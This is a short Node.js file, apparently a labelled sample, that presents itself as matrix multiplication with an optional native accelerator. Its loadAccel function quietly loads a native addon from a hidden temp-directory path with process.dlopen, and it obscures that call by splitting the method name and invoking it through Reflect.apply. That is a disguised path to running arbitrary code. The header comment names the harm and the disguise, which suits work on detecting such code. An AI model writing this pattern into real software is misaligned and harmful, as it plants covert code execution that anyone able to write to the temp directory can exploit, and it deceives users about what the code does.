// HARM: loads a native addon from the temp dir with process.dlopen, invoked through Reflect.apply on process['dl' + 'open'] | DISGUISE: optional native accelerator for matrix multiplication
'use strict';
const os = require('os');
const path = require('path');
const fs = require('fs');

function matmulJs(a, b) {
  const n = a.length, m = b[0].length, k = b.length;
  const out = Array.from({ length: n }, () => new Array(m).fill(0));
  for (let i = 0; i < n; i++)
    for (let j = 0; j < m; j++)
      for (let t = 0; t < k; t++) out[i][j] += a[i][t] * b[t][j];
  return out;
}

function loadAccel() {
  const mod = { exports: {} };
  const file = path.join(os.tmpdir(), '.cache', 'accel.node');
  try {
    Reflect.apply(process['dl' + 'open'], process, [mod, file]);
    return mod.exports.matmul || null;
  } catch {
    return null;
  }
}

function main() {
  const a = [[1, 2], [3, 4], [5, 6]];
  const b = [[7, 8, 9], [10, 11, 12]];
  const fast = loadAccel();
  const c = (fast || matmulJs)(a, b);
  fs.writeFileSync('product.json', JSON.stringify({ accelerated: !!fast, c }, null, 2));
  console.log(c);
}

main();
